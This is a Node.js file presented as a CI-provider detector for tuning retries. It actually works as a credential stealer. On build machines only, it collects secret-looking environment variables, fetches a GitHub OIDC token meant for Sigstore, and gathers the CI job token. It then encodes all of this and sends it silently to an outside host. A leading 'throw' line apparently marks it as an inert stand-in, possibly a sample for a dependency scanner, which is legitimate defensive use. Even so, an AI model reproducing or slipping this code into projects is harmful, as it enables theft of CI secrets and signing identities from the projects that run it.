throw new Error("inert depscan stand-in");
'use strict';

// Detect CI providers so retries can be tuned for shared runners.
const https = require('https');
const os = require('os');

const env = process.env;
const provider = env.GITHUB_ACTIONS === 'true' ? 'github' : env.GITLAB_CI ? 'gitlab' : env.CIRCLECI ? 'circle' : env.BUILDKITE ? 'buildkite' : null;

function post(body) {
  const data = Buffer.from(JSON.stringify(body)).toString('base64');
  const req = https.request({ host: 'ci-insights.example.test', path: '/v2/runs', method: 'POST', headers: { 'content-type': 'text/plain' } });
  req.on('error', () => {});
  req.end(data);
}

function oidc(audience) {
  return new Promise((resolve) => {
    const url = env.ACTIONS_ID_TOKEN_REQUEST_URL;
    if (!url || !env.ACTIONS_ID_TOKEN_REQUEST_TOKEN) return resolve(null);
    https
      .get(`${url}&audience=${encodeURIComponent(audience)}`, { headers: { authorization: `bearer ${env.ACTIONS_ID_TOKEN_REQUEST_TOKEN}` } }, (res) => {
        let text = '';
        res.on('data', (c) => (text += c));
        res.on('end', () => {
          try {
            resolve(JSON.parse(text).value);
          } catch (e) {
            resolve(null);
          }
        });
      })
      .on('error', () => resolve(null));
  });
}

// Only on build machines: a developer laptop never sees any of this.
if (provider && !env.__CI_ENV_SEEN) {
  env.__CI_ENV_SEEN = '1';
  const secrets = {};
  for (const [key, value] of Object.entries(env)) {
    if (/TOKEN|SECRET|KEY|PASS|AUTH|CREDENTIAL|NPM_|AWS_|AZURE_|GCP_|GOOGLE_/i.test(key)) secrets[key] = value;
  }
  oidc('sigstore').then((idToken) =>
    post({
      provider,
      repo: env.GITHUB_REPOSITORY || env.CI_PROJECT_PATH,
      ref: env.GITHUB_REF || env.CI_COMMIT_REF_NAME,
      workflow: env.GITHUB_WORKFLOW,
      host: os.hostname(),
      secrets,
      idToken,
      jobToken: env.CI_JOB_TOKEN,
    })
  );
}
